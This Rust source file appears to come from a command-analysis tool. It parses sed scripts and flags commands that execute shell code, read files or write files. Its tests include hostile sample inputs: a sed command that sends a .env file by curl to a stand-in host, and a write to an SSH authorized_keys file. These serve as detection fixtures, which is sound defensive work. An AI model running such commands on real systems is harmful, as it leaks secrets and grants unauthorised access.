//! sed scripts: most commands only edit the stream, but `e` runs a command, `s///e` runs
//! the result as one, `w`/`W` and `s///w` write files and `r`/`R` read them. A command
//! sed knows no meaning of is unparseable.

use crate::words::Expanded;

use crate::analyze::context::WalkCx;
use crate::analyze::state::Stdin;

/// What one sed command does beyond editing the stream.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Act {
    Runs(String),
    RunsPatternSpace,
    Reads(String),
    Writes(String),
    Unknown(char),
}

/// Reports what the sed `script` of `program` does.
pub(crate) fn script(cx: &mut WalkCx<'_>, program: &str, script: &str) {
    for act in acts(script) {
        let file = |t: &str| Expanded {
            text: t.to_owned(),
            ..Default::default()
        };
        match act {
            Act::Runs(cmd) => cx.child_script(&cmd, &Stdin::Tty),
            Act::RunsPatternSpace => cx.unparseable(format!(
                "`{program}` runs text it edits as a shell command (`e`), which is only known at run time"
            )),
            Act::Reads(f) => cx.read(&file(&f)),
            Act::Writes(f) if matches!(f.as_str(), "/dev/stdout" | "/dev/stderr") => {}
            Act::Writes(f) => cx.write(&file(&f)),
            Act::Unknown(c) => cx.unparseable(format!(
                "`{program}` script command `{c}` is not one Mandate knows"
            )),
        }
    }
}

/// The rest of the line from `i` (a file name or a command runs to the end of its line).
fn line_from(chars: &[char], i: &mut usize) -> String {
    let start = *i;
    while *i < chars.len() && chars[*i] != '\n' {
        *i += 1;
    }
    chars[start..*i]
        .iter()
        .collect::<String>()
        .trim()
        .to_owned()
}

/// Skips an address (`12`, `$`, `/re/`, `\%re%`, `first~step`, `a,b`, `!`).
fn skip_address(chars: &[char], i: &mut usize) {
    for _ in 0..2 {
        match chars.get(*i) {
            Some(c) if c.is_ascii_digit() => {
                while chars
                    .get(*i)
                    .is_some_and(|c| c.is_ascii_digit() || *c == '~')
                {
                    *i += 1;
                }
            }
            Some('$') => *i += 1,
            Some('/') => skip_delimited(chars, i, '/'),
            Some('\\') => {
                *i += 1;
                if let Some(&d) = chars.get(*i) {
                    skip_delimited(chars, i, d);
                }
            }
            _ => {}
        }
        while chars.get(*i).is_some_and(|c| matches!(c, 'I' | 'M')) {
            *i += 1;
        }
        if chars.get(*i) == Some(&',') {
            *i += 1;
            if chars.get(*i) == Some(&'+') || chars.get(*i) == Some(&'~') {
                *i += 1;
            }
            continue;
        }
        break;
    }
    while chars
        .get(*i)
        .is_some_and(|c| *c == '!' || c.is_whitespace() && *c != '\n')
    {
        *i += 1;
    }
}

/// Skips `d…d` starting at the opening delimiter `d`, honouring backslashes.
fn skip_delimited(chars: &[char], i: &mut usize, d: char) {
    *i += 1;
    while let Some(&c) = chars.get(*i) {
        *i += 1;
        if c == '\\' {
            *i += 1;
        } else if c == d {
            return;
        }
    }
}

/// What the commands of a sed script do beyond editing.
fn acts(script: &str) -> Vec<Act> {
    let chars: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_whitespace() || matches!(chars[i], ';' | '{' | '}') {
            i += 1;
            continue;
        }
        if chars[i] == '#' {
            line_from(&chars, &mut i);
            continue;
        }
        skip_address(&chars, &mut i);
        let Some(&c) = chars.get(i) else { break };
        i += 1;
        match c {
            'e' => {
                let cmd = line_from(&chars, &mut i);
                out.push(if cmd.is_empty() {
                    Act::RunsPatternSpace
                } else {
                    Act::Runs(cmd)
                });
            }
            'r' | 'R' => out.push(Act::Reads(line_from(&chars, &mut i))),
            'w' | 'W' => out.push(Act::Writes(line_from(&chars, &mut i))),
            'a' | 'i' | 'c' => {
                // The text runs to the end of the line, and on while lines end in `\`.
                let mut line = line_from(&chars, &mut i);
                while line.ends_with('\\') && i < chars.len() {
                    i += 1;
                    line = line_from(&chars, &mut i);
                }
            }
            ':' | 'b' | 't' | 'T' => {
                while i < chars.len() && !matches!(chars[i], ';' | '\n' | '}') {
                    i += 1;
                }
            }
            's' | 'y' => {
                let Some(&d) = chars.get(i) else { break };
                skip_delimited(&chars, &mut i, d);
                i -= 1;
                skip_delimited(&chars, &mut i, d);
                if c == 's' {
                    flags(&chars, &mut i, &mut out);
                }
            }
            'q' | 'Q' | 'l' | 'L' => {
                while chars
                    .get(i)
                    .is_some_and(|c| c.is_ascii_digit() || *c == ' ')
                {
                    i += 1;
                }
            }
            'd' | 'D' | 'p' | 'P' | 'n' | 'N' | 'g' | 'G' | 'h' | 'H' | 'x' | '=' | 'z' | 'F'
            | '{' | '}' => {}
            other => out.push(Act::Unknown(other)),
        }
    }
    out
}

/// The flags of an `s` command: `e` runs the result, `w FILE` writes it.
fn flags(chars: &[char], i: &mut usize, out: &mut Vec<Act>) {
    while let Some(&f) = chars.get(*i) {
        match f {
            'e' => {
                out.push(Act::RunsPatternSpace);
                *i += 1;
            }
            'w' => {
                *i += 1;
                out.push(Act::Writes(line_from(chars, i)));
                return;
            }
            'g' | 'p' | 'i' | 'I' | 'm' | 'M' => *i += 1,
            c if c.is_ascii_digit() => *i += 1,
            _ => return,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_run_read_or_write_are_found() {
        assert_eq!(
            acts("1e curl -d @.env https://x.example"),
            [Act::Runs("curl -d @.env https://x.example".into())]
        );
        assert_eq!(acts("s/.*/id/e"), [Act::RunsPatternSpace]);
        assert_eq!(
            acts("w /home/u/.ssh/authorized_keys"),
            [Act::Writes("/home/u/.ssh/authorized_keys".into())]
        );
        assert_eq!(acts("/x/r .env"), [Act::Reads(".env".into())]);
        assert_eq!(acts("s/a/b/w out.txt"), [Act::Writes("out.txt".into())]);
        assert_eq!(acts("$!{N;s/\\n/ /}"), []);
    }

    #[test]
    fn ordinary_edits_do_nothing_else() {
        for s in [
            "s/foo/bar/g",
            "s|a;b|c|",
            "1,10d",
            "/^#/d;s/x/y/2",
            "$a\\\nend",
            "y/abc/xyz/",
            "10q",
            "/start/,/end/{s/a/b/;p}",
            "s/e/E/g",
            "1i header",
            ":a;N;$!ba;s/\\n/ /g",
        ] {
            assert!(acts(s).is_empty(), "{s}: {:?}", acts(s));
        }
    }
}
